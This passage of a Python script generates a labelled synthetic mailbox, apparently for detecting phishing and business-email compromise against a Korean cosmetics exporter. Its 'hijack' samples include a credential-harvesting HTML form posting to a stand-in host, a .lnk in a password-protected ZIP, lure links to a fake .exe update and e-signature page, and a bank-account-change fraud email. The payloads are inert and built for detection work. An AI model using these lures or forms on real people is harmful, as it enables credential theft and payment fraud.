            st = i + 30 + nl + el; b[st:st + csz] = rbytes(csz); i = st + csz
        i = 0
        while (i := b.find(b"PK\x01\x02", i)) >= 0: b[i + 8] |= 1; i += 46
    return bytes(b)


def pdf(lines, producer="Microsoft® Excel® 2016", uris=()):
    esc = lambda s: s.encode("ascii", "replace").decode().replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
    content = ("BT /F1 10 Tf 13 TL 60 790 Td " + " ".join(f"({esc(l)}) '" for l in lines) + " ET").encode("latin-1")
    objs = ["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", None, f"<< /Length {len(content)} >>\nstream\n",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", f"<< /Producer ({esc(producer)}) >>"]
    ann = []
    for i, u in enumerate(uris):
        objs.append(f"<< /Type /Annot /Subtype /Link /Rect [60 {560 - 40 * i} 535 {600 - 40 * i}] /Border [0 0 0] /A << /S /URI /URI ({u}) >> >>"); ann.append(len(objs))
    objs[2] = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R"
               + (f" /Annots [{' '.join(f'{a} 0 R' for a in ann)}]" if ann else "") + " >>")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"); offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(out))
        out += (f"4 0 obj\n{o}".encode() + content + b"\nendstream\nendobj\n") if i == 4 else f"{i} 0 obj\n{o}\nendobj\n".encode("latin-1")
    x = len(out); fid = hx(32)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode() + b"".join(f"{o:010d} 00000 n \n".encode() for o in offs)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R /Info 6 0 R /ID [<{fid}> <{fid}>] >>\nstartxref\n{x}\n%%EOF\n".encode()
    return bytes(out)


def ooxml(kind, text, macro=False):
    bio = io.BytesIO(); z = zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED)
    main = {"docx": "word/document.xml", "docm": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    ctmain = {"docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
              "docm": "application/vnd.ms-word.document.macroEnabled.main+xml", "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"}[kind]
    ct = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
          '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
          + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if macro else "") + f'<Override PartName="/{main}" ContentType="{ctmain}"/></Types>')
    z.writestr("[Content_Types].xml", ct)
    z.writestr("_rels/.rels", f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{main}"/></Relationships>')
    if kind.startswith("doc"):
        z.writestr(main, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
                   + "".join(f"<w:p><w:r><w:t>{H.escape(l)}</w:t></w:r></w:p>" for l in text.split("\n")) + "</w:body></w:document>")
        if macro:
            z.writestr("word/_rels/document.xml.rels", '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
            z.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + rbytes(1500))
    else:
        z.writestr(main, '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Packing List" sheetId="1"/></sheets></workbook>')
        z.writestr("xl/sharedStrings.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + "".join(f"<si><t>{H.escape(l)}</t></si>" for l in text.split("\n")) + "</sst>")
    z.close(); return bio.getvalue()


def lnk(args):
    return (b"\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + struct.pack("<II", 0xE3, 0x20) + rbytes(24)
            + struct.pack("<II", 0, 7) + b"\x00" * 10 + struct.pack("<H", len(args)) + args.encode("utf-16-le") + rbytes(40))


def onenote(title):
    return (uuid.UUID("7B5C52E4-D88C-4DA7-AEB1-5378D02996D3").bytes_le + uuid.UUID("109ADD3F-911B-49F5-A5D0-1791EDC8AED8").bytes_le + rbytes(16)
            + title.encode("utf-16-le") + rbytes(700) + b"<!-- inert probe placeholder -->" + rbytes(400))


def ics(summary, start, end, org, desc, url="", loc=""):
    d = lambda t: t.astimezone(UTC).strftime("%Y%m%dT%H%M%SZ")
    L = ["BEGIN:VCALENDAR", "PRODID:-//Microsoft Corporation//Outlook 16.0 MIMEDIR//EN", "VERSION:2.0", "METHOD:REQUEST", "BEGIN:VEVENT",
         f"ORGANIZER;CN={org.name}:mailto:{org.email}", f"ATTENDEE;ROLE=REQ-PARTICIPANT;RSVP=TRUE:mailto:{ME.email}", f"DESCRIPTION:{desc}",
         f"UID:{HX(32)}", f"SUMMARY;LANGUAGE=ko-KR:{summary}", f"DTSTART:{d(start)}", f"DTEND:{d(end)}", f"DTSTAMP:{d(start)}", f"LOCATION:{loc}"] + \
        ([f"URL:{url}"] if url else []) + ["SEQUENCE:0", "END:VEVENT", "END:VCALENDAR"]
    return ("\r\n".join(L) + "\r\n").encode()


# ---------------------------------------------------------------- regular conversation text pools
KO_P = ["말씀하신 일정 확인했습니다. 생산 라인 일정 조정해서 {d}까지 맞춰 보겠습니다.", "요청하신 {x} 수량 {q}개 기준으로 검토 중입니다. 내일 오전 중 회신드리겠습니다.",
        "샘플 {q}개 오늘 퀵으로 발송했습니다. 수령 후 확인 부탁드립니다.", "원부자재 입고가 하루 지연되어 출고는 {d}로 변경될 것 같습니다. 양해 부탁드립니다.",
        "첨부 자료는 기존과 동일하며 수정사항 반영해 두었습니다.", "네 확인했습니다. 내부 결재 후 다시 연락드리겠습니다.",
        "지난번 말씀하신 용기 색상 건은 {x} 기준으로 진행하겠습니다.", "출고 전 QC 결과 이상 없습니다. COA는 출고일에 함께 보내드리겠습니다."]
KO_ME = ["{x} 건 확인 감사합니다. 바이어 쪽에도 공유하겠습니다.", "일정 {d} 가능하실까요? 선적 부킹이 그 주로 잡혀 있어서요.",
         "네, 그렇게 진행 부탁드립니다. 수량은 {q}개로 확정입니다.", "자료 잘 받았습니다. 혹시 성분표 영문본도 함께 받을 수 있을까요?",
         "감사합니다. 출고 전에 한 번 더 연락 부탁드립니다.", "바이어 요청으로 라벨 문구가 일부 바뀌었습니다. 수정본 다시 전달드리겠습니다."]
EN_P = ["Thanks Ji-yoon, we confirm {q} units of {x}. Target ETA is around {d}.", "Noted. Our registration team is checking the ingredient list, will revert this week.",
        "Please find our comments below. The retail price point for {x} looks fine for our channels.", "Received with thanks. We will arrange the payment after we receive the shipping documents.",
        "Could you share the updated price list and the MOQ for {x}?", "All good on our side, please go ahead with production.",
        "Our warehouse can receive from {d}. Please advise the vessel once booked.", "Sales of {x} have been strong this month, we may need to top up the next order."]
EN_ME = ["Thank you for the update. We will ship {q} pcs of {x}; estimated departure is {d}.", "Noted with thanks. I will check with our factory and come back to you.",
         "Please see the proforma invoice details in the PI we sent; payment terms stay 30% T/T in advance, 70% against B/L copy.",
         "Sure, I will send the MSDS and COA together with the shipping documents.", "Great news, thank you. Let me know if you need any marketing support for {x}."]
ZH_P = ["金老师您好，{x} 的报价已收到，我们内部再核算一下成本，明天给您回复。", "样品已经收到了，{x} 的质地客户反馈很好。", "我们这边计划 {d} 前下单，数量大概 {q} 件。",
        "麻烦提供一下中文标签的内容，我们需要提前做备案。", "好的，收到，谢谢！", "海关那边需要原产地证，请随货一起寄过来。"]
ZH_ME = ["王经理您好，谢谢您的回复。{x} 的价格我们可以按照上次的条件执行。", "收到，我会安排 {d} 前把资料发给您。", "好的，原产地证和卫生证书会一起准备。",
         "数量 {q} 件没问题，我们工厂可以按期交货。"]
PRODUCTS = ["쌀 토너 (Rice Toner 150ml)", "Cica Calming Serum 50ml", "Green Tea Cleansing Foam", "Ceramide Barrier Cream", "Vitamin C Ampoule 30ml", "Sun Essence SPF50+"]
PRODUCTS_ZH = ["积雪草舒缓精华", "大米爽肤水", "神经酰胺修护霜", "维C安瓶精华"]
POOLS = {"ko": (KO_P, KO_ME), "en": (EN_P, EN_ME), "zh": (ZH_P, ZH_ME)}


def fill(s, lang):
    d = (datetime.date(2025, 1, 1) + datetime.timedelta(days=R.randint(0, 150)))
    ds = f"{d.month}월 {d.day}일" if lang == "ko" else (f"{d.month}月{d.day}日" if lang == "zh" else d.strftime("%d %b"))
    return s.format(x=R.choice(PRODUCTS_ZH if lang == "zh" else PRODUCTS), q=R.choice([1200, 2400, 3000, 4800, 6000, 500, 10000]), d=ds)


def greet(who, lang, to_me):
    if lang == "ko": return "김지윤 과장님, 안녕하세요.\n" + ("" if to_me else "") if to_me else f"{who.ko or who.name} 님, 안녕하세요.\n한빛코스메틱 김지윤입니다.\n"
    if lang == "zh": return "金老师，您好！\n" if to_me else "王经理，您好！\n"
    return "Dear Ji-yoon,\n" if to_me else f"Hi {who.name.split()[0] if ' ' in who.name else who.name},\n"


def conv(th, start, k, gap=(1, 4), first_me=False, hour_p=(9, 18)):
    """k alternating messages; returns the time of the last message"""
    t = start; lang = th.p.lang
    pp, mp = POOLS[lang]
    for i in range(k):
        me_turn = (i % 2 == 0) == first_me
        who = ME if me_turn else th.p
        txt = greet(th.p, lang, not me_turn) + "\n" + fill(R.choice(mp if me_turn else pp), lang)
        if R.random() < 0.5: txt += "\n" + fill(R.choice(mp if me_turn else pp), lang)
        txt += "\n\n" + ("감사합니다." if lang == "ko" else ("谢谢！" if lang == "zh" else "Best regards,"))
        th.say(who, t, txt)
        t = t + datetime.timedelta(days=R.randint(*gap), hours=R.randint(-3, 3), minutes=R.randint(0, 50))
        lt = t.astimezone(who.tz if not me_turn else th.p.tz)
        if lt.weekday() >= 5: t += datetime.timedelta(days=7 - lt.weekday())
        lh = t.astimezone(th.p.tz if me_turn else KST).hour
        if lh < hour_p[0]: t += datetime.timedelta(hours=hour_p[0] - lh + 1)
        if lh > hour_p[1]: t -= datetime.timedelta(hours=lh - hour_p[1] + 1)
    return t


def ptxt(who, lang, body, close=None):
    return greet(who, lang, True) + "\n" + body + "\n\n" + (close or ("감사합니다." if lang == "ko" else ("谢谢！" if lang == "zh" else "Best regards,")))
def mtxt(th, body):
    lang = th.p.lang
    return greet(th.p, lang, False) + "\n" + body + "\n\n" + ("감사합니다." if lang == "ko" else ("谢谢！" if lang == "zh" else "Best regards,"))
G = ("genuine", "genuine-hard"); O = ("genuine", "genuine-orphan")
def HJ(k): return ("hijack", k)
def D(d=1, h=0): return datetime.timedelta(days=d, hours=h)


# attacker-side clients / infrastructure
OUT.update({
    "gmail": ("mail-ed1-f53.google.com", "209.85.208", ("gmail.com", "20230601"), []),
    "naver": ("cvsmtppost011.nm.naver.com", "125.209.238", ("naver.com", "s20171208"), [("X-Mailer", "NAVER Mail")]),
    "lk_customs": ("mail.jungwon-custom.example", "45.139.122", ("jungwon-custom.example", "default"), [("X-Mailer", "Microsoft Outlook 16.0")]),
    "lk_desert": ("mail.desertrose-tradinq.example", "194.87.31", ("desertrose-tradinq.example", "mail"), [("X-Mailer", "Microsoft Outlook 16.0")]),
    "stranger1": ("mail.kr-dhl-clearance.example", "91.215.85", ("kr-dhl-clearance.example", "s1"), [("X-Mailer", "PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)")]),
    "stranger2": ("smtp.vm-notify-center.example", "103.151.123", None, [("X-Mailer", "Microsoft Outlook 16.0")]),
})
INFRA.update({"gmail": "gmail", "naver": "naver", "lk_customs": "lk_customs", "lk_desert": "lk_desert", "stranger1": "stranger1", "stranger2": "stranger2",
              "roundcube_m365": "m365apc", "outlook_zoho": "zoho", "tb_biz": "bizworks"})
_ch = client_headers
def client_headers(client, subj, t):
    if client == "roundcube_m365": return [("User-Agent", "Roundcube Webmail/1.6.6"), ("X-Originating-IP", "[185.231.154.61]")]
    if client == "outlook_zoho": return [("X-Mailer", "Microsoft Outlook 16.0"), ("Thread-Index", base64.b64encode(bytes.fromhex(hx(44))).decode()), ("X-Originating-IP", "[102.89.47.130]")]
    if client == "tb_biz": return [("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.3.1"), ("X-Originating-IP", "[197.211.58.92]")]
    return _ch(client, subj, t)
_mm = make_mid
def make_mid(who, client, t):
    if client == "roundcube_m365": return f"<{hx(32)}@saigonbeauty-dist.example>"
    if client == "outlook_zoho": return f"<000{hx(1)}01db{hx(4)}${hx(8)}${hx(8)}$@klglow.example>"
    if client == "tb_biz": return f"<{ruuid()}@hanbit-cosmetics.example>"
    if client in ("lk_customs", "lk_desert"): return f"<000{hx(1)}01db{hx(4)}${hx(8)}${hx(8)}$@{who.dom}>"
    if client == "naver": return f"<{alnum(22)}@cweb{R.randint(10, 30)}.nm.naver.com>"
    if client == "stranger1": return f"<{alnum(32)}@kr-dhl-clearance.example>"
    return _mm(who, client, t)


# ================================================================= the mailbox
KOE = ("김지윤", ME.email); ENE = ("Ji-yoon Kim", ME.email)
# ---- T1 Sejin OEM production (context + replies)
T1 = Thread(sejin, "[한빛] 쌀 토너 150ml 2차 생산 일정 문의", "naverworks", "bizworks")
conv(T1, at(2024, 8, 20, 10, 12), 10, first_me=True)
# ---- T2 Sejin new serum quotation: G1 real PDF quote, A1 server-hijack
T2 = Thread(sejin, "[한빛] 시카 세럼 50ml 신규 견적 요청", "naverworks", "bizworks")
t = conv(T2, at(2024, 11, 4, 14, 3), 5, first_me=True)
T2.say(sejin, t + D(1), ptxt(sejin, "ko", "요청하신 시카 세럼 50ml 견적서 첨부드립니다.\nMOQ 5,000개 기준이며 용기는 기존 토너와 동일 업체(에어리스 50ml) 적용했습니다.\n유효기간은 12월 말까지입니다."),
       label=G, scen="G1 Sejin attaches the real 견적서 PDF as always",
       atts=[("세진코스텍_견적서_시카세럼50ml_241112.pdf", pdf(["SEJIN COSTECH QUOTATION", "Cica Serum 50ml OEM", "MOQ 5,000 pcs  KRW 2,850/pc", "Valid until 2024-12-31"], "Hancom PDF 1.3.0.505"), "application/pdf")])
t = conv(T2, t + D(3), 4, first_me=True)
T2.say(sejin, t + D(2, 3), ptxt(sejin, "ko", "과장님, 지난번 보내드린 견적서에 단가 오류가 있어 수정본 재송부드립니다.\n보안 문제로 압축파일에 암호 설정했습니다. 비밀번호: sj1125\n확인 후 회신 부탁드립니다."),
       label=HJ("server-hijack"), scen="A1 Sejin's real NAVER WORKS: 견적서 password ZIP (pw in text) with .lnk, faithful quote", advance=False,
       atts=[("견적서_수정본_1125.zip", zbytes([("견적서_수정본_1125.pdf.lnk", lnk("/c start /min cmd /c echo inert-probe-placeholder"))], encrypt=True), "application/x-zip-compressed")])
conv(T2, t + D(5), 4, first_me=True)
# ---- T24 Sejin large file link: G21
T24 = Thread(sejin, "[한빛] 쌀 토너 리뉴얼 패키지 촬영본", "naverworks", "bizworks")
t = conv(T24, at(2025, 2, 3, 10, 40), 3, first_me=True)
T24.say(sejin, t + D(1), ptxt(sejin, "ko", "촬영 원본 용량이 커서 대용량 첨부로 보내드립니다. (다운로드 기한 30일)\n\n[대용량 첨부] 쌀토너_리뉴얼_촬영원본.zip (1.8GB)\nhttps://mail.worksmobile.com/bigfile/download?fid=" + alnum(40)),
        label=G, scen="G21 Sejin NAVER WORKS large-file download link")
conv(T24, t + D(2), 3, first_me=True)
# ---- T3 Daesung packaging (EUC-KR) + A11 display-name spoof from naver.com
T3 = Thread(daesung, "단상자 발주서 송부 (쌀토너 150ml)", "daum", "bizworks")
t = conv(T3, at(2024, 9, 9, 11, 5), 10, first_me=True)
fake_ds = Pt("대성패키지 이민정", "daesung.pack2@naver.com", "naver", KST, lang="ko")
T3.say(fake_ds, t + D(2, 2), "김지윤 과장님 안녕하세요. 대성패키지 이민정입니다.\n\n10월분 세금계산서가 국세청 전송 오류로 재발행되었습니다.\n아래 링크에서 재발행본 확인 후 결재 부탁드립니다.\n\n"
          "https://www.dropbox.com/scl/fi/" + alnum(21) + "/2024_10_.zip?rlkey=" + alnum(25) + "&dl=1\n\n감사합니다.\n이민정 드림",
       client="naver", label=HJ("display-name-spoof"), scen="A11 '대성패키지 이민정' from naver.com: 세금계산서 재발행 zip on dropbox.com", advance=False, cs="utf-8")
conv(T3, t + D(4), 4, first_me=True)
T3b = Thread(daesung, "2025년 단가 조정 관련 협의", "daum", "bizworks")
conv(T3b, at(2025, 1, 13, 10, 0), 8)
# ---- T4 Seoum booking (VN) + A10 server-hijack SVG
T4 = Thread(seoum, "[부킹요청] 부산-호치민 20ft 1대 (Saigon Beauty PO-2411)", "exchange", "bizworks")
t = conv(T4, at(2024, 11, 18, 9, 30), 9, first_me=True)
svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="800" height="600">'
       '<rect width="800" height="600" fill="#f4f6f8"/><text x="40" y="80" font-size="22">B/L COPY - SML2411HCM0388</text>'
       '<a xlink:href="https://seoum-docs-viewer.example/bl/view?id=' + alnum(16) + '"><rect x="40" y="120" width="300" height="50" fill="#0b5cab"/>'
       '<text x="60" y="152" fill="#fff" font-size="18">문서 열기 (Open)</text></a><!-- inert probe --></svg>')
T4.say(seoum, t + D(1, 5), "과장님 안녕하세요.\n\n호치민 건 B/L 사본 첨부드립니다. 선명 변경되어 재발행된 본이니 첨부 열어서 확인 부탁드립니다.\n\n최동훈 드림"
       + "\n\n-----Original Message-----\n보낸 사람: 김지윤 <jiyoon.kim@hanbit-cosmetics.example>\n제목: RE: [부킹요청] 부산-호치민 20ft 1대\n\nB/L 사본 오늘 중 받아볼 수 있을까요? 바이어가 대금 송금 전에 요청해서요.",
       quote=False, label=HJ("server-hijack"), scen="A10 Seoum's real Exchange: B/L 사본 SVG with link, altered quote", advance=False,
       atts=[("BL_COPY_SML2411HCM0388.svg", svg.encode(), "image/svg+xml")])
conv(T4, t + D(2), 3, first_me=True)
# ---- T5 Seoum UAE shipment: G16 zipped docs requested
T5 = Thread(seoum, "[선적] 부산-제벨알리 LCL (Desert Rose)", "exchange", "bizworks")
t = conv(T5, at(2025, 3, 3, 10, 0), 5, first_me=True)
T5.say(ME, t, mtxt(T5, "선적서류(B/L, CI/PL, 원산지증명) 한 번에 압축해서 보내주실 수 있을까요? 바이어가 L/C 네고용으로 일괄 요청했습니다."))
T5.say(seoum, t + D(0, 4), ptxt(seoum, "ko", "요청하신 선적서류 압축해서 보내드립니다.\nB/L 원본은 내일 특송으로 발송 예정입니다."), label=G, scen="G16 Seoum sends the requested zipped shipping documents",
       atts=[("DesertRose_선적서류_0314.zip", zbytes([("BL_SML2503JEA0112.pdf", pdf(["BILL OF LADING SML2503JEA0112"])), ("CI_PL_HB-DR-2503.xlsx", ooxml("xlsx", "Packing List\nHB-DR-2503")), ("CO_KCCI.pdf", pdf(["CERTIFICATE OF ORIGIN"]))]), "application/x-zip-compressed")])
conv(T5, t + D(2), 2, first_me=True)
# ---- T22 Seoum meeting invite: G27
T22 = Thread(seoum, "2025년 해상운임 계약 미팅 일정", "exchange", "bizworks")
t = conv(T22, at(2025, 4, 7, 14, 0), 3, first_me=True)
T22.say(seoum, t + D(1), ptxt(seoum, "ko", "말씀 나눈 대로 4월 17일(목) 오후 3시 성수 사무실 방문 일정 초대 보내드립니다."), label=G, scen="G27 Seoum sends a real Outlook meeting invite (.ics)",
        atts=[("invite.ics", ics("한빛코스메틱 해상운임 계약 미팅", at(2025, 4, 17, 15, 0), at(2025, 4, 17, 16, 0), seoum, "2025 운임 계약 조건 협의", loc="한빛코스메틱 성수 사무실"), "text/calendar; method=REQUEST")])
conv(T22, t + D(2), 2, first_me=True)


# ---- T6 Jungwon customs (Shanghai samples import) + A13 server-hijack software update
T6 = Thread(jungwon, "중국 샘플 수입 통관 및 수입요건 문의", "m365kr", "bizworks")
t = conv(T6, at(2024, 10, 7, 10, 20), 8, first_me=True)
T6.say(jungwon, t + D(3, 1), ptxt(jungwon, "ko", "과장님, 관세청 UNI-PASS 전자서명 모듈이 4월 1일자로 변경되어 수출입 신고 위임 업체 모두 업데이트가 필요합니다.\n"
       "아래 경로에서 보안모듈 설치 후 인증서 재등록 부탁드립니다. 미설치 시 다음 신고건부터 처리가 지연될 수 있습니다.\n\nhttps://unipass-certmodule.example/setup/KCS_SignModule_v3.2.exe"),
       label=HJ("server-hijack"), scen="A13 Jungwon's real M365: UNI-PASS 서명모듈 'update' link on unknown domain, faithful quote", advance=False)
conv(T6, t + D(5), 4, first_me=True)
# ---- T23 Jungwon duty payment: G17 real 수입신고필증, G28 가상계좌, A3 lookalike HTML
T23 = Thread(jungwon, "[수입신고] 원료 수입건 (B/L SHA25020177) 신고 진행", "m365kr", "bizworks")
t = conv(T23, at(2025, 2, 17, 9, 40), 5, first_me=True)
T23.say(jungwon, t, ptxt(jungwon, "ko", "신고 수리되어 수입신고필증 첨부드립니다.\n관세 및 부가세 납부는 별도 메일로 안내드리겠습니다."), label=G, scen="G17 Jungwon sends the real 수입신고필증 PDF",
        atts=[("수입신고필증_43512-25-100214U.pdf", pdf(["IMPORT DECLARATION CERTIFICATE 43512-25-100214U", "Korea Customs Service"], "UNI-PASS"), "application/pdf")])
T23.say(jungwon, t + D(0, 2), ptxt(jungwon, "ko", "관세 납부 안내드립니다.\n납부금액: 1,284,300원 (관세 531,200 / 부가세 753,100)\n납부방법: 국고 전자납부 (가상계좌 신한 562-901-28841233, 예금주 관세청)\n납부기한: 3월 4일"),
        label=G, scen="G28 Jungwon's real duty-payment notice with a virtual account")
fake_jw = Pt("정해원", "hw.jung@jungwon-custom.example", "lk_customs", KST, lang="ko")
phish = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>수입신고필증 열람</title></head><body style=\"font-family:Malgun Gothic\"><h3>수입신고필증 보안 열람</h3>"
         "<p>문서 열람을 위해 그룹웨어 계정으로 로그인하세요.</p><form action=\"https://jungwon-docview.example/auth\" method=\"post\"><input name=\"id\" value=\"jiyoon.kim@hanbit-cosmetics.example\">"
         "<input type=\"password\" name=\"pw\"><button>열람</button></form><!-- inert probe --></body></html>")
T23.say(fake_jw, t + D(2, 4), ptxt(jungwon, "ko", "과장님, 지난번 드린 수입신고필증에 정정 신고가 반영되어 정정본 보내드립니다.\n보안문서로 첨부되어 있으니 열람 후 확인 부탁드립니다.\n납부 관세도 일부 변경되었으니 정정본 금액으로 납부해 주세요.") + "\n\n" + jungwon.sig,
        client="lk_customs", label=HJ("lookalike-domain"), scen="A3 jungwon-custom.example: HTML 수입신고필증 attachment (credential form), quotes thread", advance=False,
        atts=[("수입신고필증_정정본.html", phish.encode(), "text/html")])
conv(T23, t + D(3), 3, first_me=True)
# ---- T7 GlowHaus PO: G9 vacation responder, G22 new colleague Cc
T7 = Thread(megan, "PO GH-2410 / Hanbit order for Q4", "gmail_ws", "outlook_me")
t = conv(T7, at(2024, 10, 1, 8, 0), 8)
T7.say(megan, t, "I'm out of the office through Nov 29 with limited access to email. For urgent PO matters please contact purchasing@glowhaus-beauty.example.\n\nThanks,\nMegan",
       client="gmail_vac", label=G, scen="G9 GlowHaus Gmail vacation responder", advance=False, quote=False)
nate = ("Nathan Reyes", "nathan@glowhaus-beauty.example")
T7.say(megan, t + D(12), ptxt(megan, "en", "Looping in Nathan Reyes, who joined our team as Supply Chain Coordinator. He will handle logistics on our side going forward, please keep him in copy."),
       cc=[nate], label=G, scen="G22 GlowHaus adds a new colleague on reply-all (Cc)")
conv(T7, t + D(14), 6)
# ---- T8 GlowHaus marketing assets: G2 Google Drive link
T8 = Thread(megan, "Marketing assets for Cica Serum launch", "gmail_ws", "outlook_me")
t = conv(T8, at(2024, 12, 2, 9, 0), 5, first_me=True)
T8.say(megan, t, ptxt(megan, "en", "Here is our Drive folder with the retail mockups and the TikTok brief, same folder as last time:\nhttps://drive.google.com/drive/folders/1" + alnum(32) + "?usp=sharing"),
       label=G, scen="G2 GlowHaus shares a Google Drive folder (thread always had links)")
conv(T8, t + D(2), 4, first_me=True)
# ---- T25 GlowHaus agreement + A7 server-hijack e-sign link on sites.google.com
T25 = Thread(megan, "Distribution agreement renewal 2026", "gmail_ws", "outlook_me")
t = conv(T25, at(2025, 4, 21, 9, 0), 6, first_me=True)
T25.say(megan, t + D(1, 6), "Hi Ji-yoon,\n\nPlease review and e-sign the final 2026 agreement before Friday so legal can countersign:\n\nhttps://sites.google.com/view/glowhaus-esign-" + alnum(6).lower() + "/agreement\n\nThanks!\nMegan",
        label=HJ("server-hijack"), scen="A7 GlowHaus real Google Workspace: e-sign link on sites.google.com, short, no signature block", advance=False)
conv(T25, t + D(4), 3, first_me=True)


# ---- T9 Saigon PO & T/T + A2 account-takeover bank change
T9 = Thread(thuha, "PO SBD-2411 / Hanbit Rice Toner & Cica Serum", "m365apc", "outlook_me")
t = conv(T9, at(2024, 11, 11, 9, 0), 8)
T9.say(thuha, t + D(1, 8), "Dear Ji-yoon,\n\nThank you for sending the PI and the B/L copy for PO SBD-2411. Before we release the 70% balance (USD 38,640.00), please note that our company has "
       "moved its foreign-currency account because of the year-end audit with Vietcombank. Kindly update your records and confirm we can remit to the account below:\n\n"
       "Beneficiary: Saigon Beauty Distribution JSC\nBank: Golden Harbour Bank Ltd, Hong Kong\nAccount No.: 812-450913-838\nSWIFT: GHBKHKHH\n\n"
       "Please confirm by email only, as I am travelling this week and cannot take calls. We want to settle before the vessel arrives at Cat Lai.\n\nBest regards,\nThu Ha",
       client="roundcube_m365", orig_ip="185.231.154.61", label=HJ("account-takeover"), scen="A2 Saigon Thu Ha's account via Roundcube from a VPS: new HK remittance bank, faithful quote",
       advance=False, extra=[("X-Priority", "1")])
conv(T9, t + D(2), 4, first_me=True)
# ---- T10 Saigon registration: G4 new phone + signature
T10 = Thread(thuha, "Product notification documents for Vietnam (DAV)", "m365apc", "outlook_me")
t = conv(T10, at(2025, 1, 6, 10, 0), 6, first_me=True)
thuha_sig_old = thuha.sig
thuha.sig = "Nguyen Thi Thu Ha (Ms.)\nImport & Regulatory Manager | Saigon Beauty Distribution JSC\n72 Nguyen Thi Minh Khai, District 3, HCMC\nTel: +84 28 3930 7744 | Mob: +84 936 204 881 (new)"
T10.say(thuha, t, ptxt(thuha, "en", "Noted with thanks. FYI I have a new mobile number (see signature) and my title changed after the reorganisation, please update your contact list."),
        label=G, scen="G4 Saigon partner announces new mobile number and signature")
t = conv(T10, t + D(2), 4, first_me=True)
# ---- T27 Saigon payment: G23 MT103 copy
T27 = Thread(thuha, "Payment SBD-2503 balance", "m365apc", "outlook_me")
t = conv(T27, at(2025, 3, 24, 9, 0), 3, first_me=True)
T27.say(thuha, t, ptxt(thuha, "en", "We remitted the balance today from our Vietcombank account as usual. Attached is the SWIFT MT103 copy for your reference."),
        label=G, scen="G23 Saigon sends the SWIFT MT103 copy PDF of the T/T",
        atts=[("MT103_SBD-2503.pdf", pdf(["MT103 SINGLE CUSTOMER CREDIT TRANSFER", "50K: SAIGON BEAUTY DISTRIBUTION JSC", "59: HANBIT COSMETICS CO LTD", "32A: USD 41,250.00"], "Vietcombank iB@nking"), "application/pdf")])
conv(T27, t + D(1), 2, first_me=True)
# ---- T11 KL Glow NPRA: G26 zipped docs, A8 account-takeover OneNote
T11 = Thread(jason, "NPRA notification - Hanbit skincare range", "zoho", "outlook_me")
t = conv(T11, at(2024, 9, 2, 10, 0), 6, first_me=True)
T11.say(jason, t, ptxt(jason, "en", "As requested, attached are the NPRA notification acknowledgements for the 6 SKUs (zipped, 6 PDFs)."), label=G,
        scen="G26 KL Glow sends the requested zipped NPRA documents",
        atts=[("NPRA_Notifications_Hanbit.zip", zbytes([(f"NOT{R.randint(100000, 999999)}K.pdf", pdf(["NPRA NOTIFICATION NOTE"])) for _ in range(6)]), "application/zip")])
t = conv(T11, t + D(2), 4, first_me=True)
T11.say(jason, t + D(1, 10), "Hi,\n\nPlease find our new purchase order attached, kindly check and confirm the price.\n\nRegards\nJason",
        client="outlook_zoho", orig_ip="102.89.47.130", label=HJ("account-takeover"), scen="A8 KL Glow Jason's Zoho account via Outlook from a foreign IP: OneNote 'PO'",
        advance=False, quote=False, atts=[("KLGlow_PO_0412.one", onenote("Purchase Order - double click to view"), "application/onenote")])
conv(T11, t + D(3), 2, first_me=True)
# ---- T12 KL Glow reorder, revived after 5 months: G14, G5
T12 = Thread(jason, "Reorder - Vitamin C Ampoule", "zoho", "outlook_me")
t = conv(T12, at(2024, 9, 23, 10, 0), 4, first_me=True)
T12.say(jason, at(2025, 3, 4, 10, 12, MY), ptxt(jason, "en", "Hi Ji-yoon, picking this up again after a few months. Our Watsons listing finally got approved, so we would like to place the reorder we discussed in September, 4,800 pcs."),
        label=G, scen="G14 KL Glow revives the reorder thread after 5 months")
t = conv(T12, at(2025, 3, 5, 10, 0), 3, first_me=True)
